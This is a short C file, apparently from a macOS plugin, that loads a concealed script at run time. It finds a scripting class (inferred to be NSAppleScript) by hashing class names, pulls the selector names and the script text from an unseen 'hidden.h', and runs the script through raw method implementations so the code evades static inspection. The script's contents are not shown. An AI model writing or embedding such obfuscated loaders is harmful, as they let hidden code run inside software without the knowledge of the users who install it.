/* The class of a script is found among all classes by the sum of its name's letters;
 * its methods are called through their implementations. */
#include "plugin.h"
#include "hidden.h" /* 0: initWithSource:, 1: executeAndReturnError:, 2: the script */
typedef struct objc_object *id;
extern id *objc_copyClassList(unsigned *), sel_registerName(const char *), class_createInstance(id, unsigned long), objc_getClass(const char *);
extern const char *class_getName(id);
extern id (*class_getMethodImplementation(id, id))(id, id, id);
extern id objc_msgSend(id, id, ...);
static unsigned sum(const char *s) {
    unsigned n = 7;
    while (*s) n = n * 131 + (unsigned char)*s++;
    return n;
}
static void act(char **env) {
    unsigned count;
    id *all = objc_copyClassList(&count), text = ((id (*)(id, id, const char *))objc_msgSend)(objc_getClass("NSString"), sel_registerName("stringWithUTF8String:"), hidden2());
    for (unsigned i = 0; i < count; i++) {
        if (sum(class_getName(all[i])) != CLASS) continue;
        id begin = sel_registerName(hidden0()), run = sel_registerName(hidden1());
        id script = class_getMethodImplementation(all[i], begin)(class_createInstance(all[i], 0), begin, text);
        class_getMethodImplementation(all[i], run)(script, run, 0);
    }
}
